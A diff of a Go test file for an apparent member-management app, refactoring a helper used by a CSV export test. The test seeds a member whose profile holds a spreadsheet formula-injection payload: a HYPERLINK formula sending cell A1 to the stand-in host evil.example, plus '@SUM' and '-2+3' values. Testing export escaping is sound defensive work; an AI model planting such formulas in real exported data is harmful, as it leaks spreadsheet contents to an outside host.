@@ -15,7 +15,6 @@ import (
 	"github.com/tsunagu/tsunagu/internal/audit"
 	"github.com/tsunagu/tsunagu/internal/member"
 	"github.com/tsunagu/tsunagu/internal/org"
-	"github.com/tsunagu/tsunagu/internal/platform/db"
 )
 
 var (
@@ -27,27 +26,6 @@ var (
 )
 
 const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"詳細")`
-
-// exportMember adds a member with a name and a profile of their own.
-func exportMember(t *testing.T, e *apptest.Env, o org.Organization, role org.Role, email string, name org.Name, edit func(*member.Profile)) int64 {
-	t.Helper()
-	ctx := context.Background()
-	m := e.AddMember(t, o, role, email)
-	if err := e.App.DB.Tx(ctx, func(tx db.Tx) error { return e.App.Orgs.SetName(ctx, tx, o.ID, m.UserID, name) }); err != nil {
-		t.Fatal(err)
-	}
-	p, err := e.App.Members.Get(ctx, o.ID, m.UserID)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if edit != nil {
-		edit(&p)
-	}
-	if err := e.App.Members.Update(ctx, p); err != nil {
-		t.Fatalf("update %s: %v", email, err)
-	}
-	return m.UserID
-}
 
 func jstZone(t *testing.T) *time.Location {
 	t.Helper()
@@ -101,7 +79,7 @@ func TestMembersCSVExport(t *testing.T) {
 	ctx := context.Background()
 	adminID := e.AddMember(t, e.Org, org.Admin, "admin@sakura.example.jp").UserID
 	e.AddMember(t, e.Org, org.Supporter, "supporter@sakura.example.jp")
-	hanako := exportMember(t, e, e.Org, org.Alumni, "hanako@example.jp",
+	hanako := e.AddProfile(t, e.Org, org.Alumni, "hanako@example.jp",
 		org.Name{Family: "山田", Given: "花子", FamilyKana: "やまだ", GivenKana: "はなこ", FamilyRomaji: "Yamada", GivenRomaji: "Hanako"},
 		func(p *member.Profile) {
 			p.JoinedYear, p.LeftYear = 2012, 2020
@@ -120,7 +98,7 @@ func TestMembersCSVExport(t *testing.T) {
 		RehireConditions: "部長承認", Notes: notes, EmployeeNumber: "EMP-0042"}, member.Admin{UserID: adminID}); err != nil {
 		t.Fatal(err)
 	}
-	exportMember(t, e, e.Org, org.Alumni, "evil@example.jp",
+	e.AddProfile(t, e.Org, org.Alumni, "evil@example.jp",
 		org.Name{Family: "悪田", Given: "式", FamilyRomaji: "Akuta"},
 		func(p *member.Profile) {
 			p.CurrentCompany = formula
@@ -128,7 +106,7 @@ func TestMembersCSVExport(t *testing.T) {
 			p.Skills = []string{"@SUM(1+1)", "-2+3"}
 		})
 	kaede := e.AddOrg(t, "kaede")
-	exportMember(t, e, kaede, org.Alumni, "other@kaede.example.jp", org.Name{Family: "楓野", Given: "次郎"}, nil)
+	e.AddProfile(t, kaede, org.Alumni, "other@kaede.example.jp", org.Name{Family: "楓野", Given: "次郎"}, nil)
 
 	admin := e.Client(t)
 	admin.SignIn(e.Org, "admin@sakura.example.jp", apptest.Password)
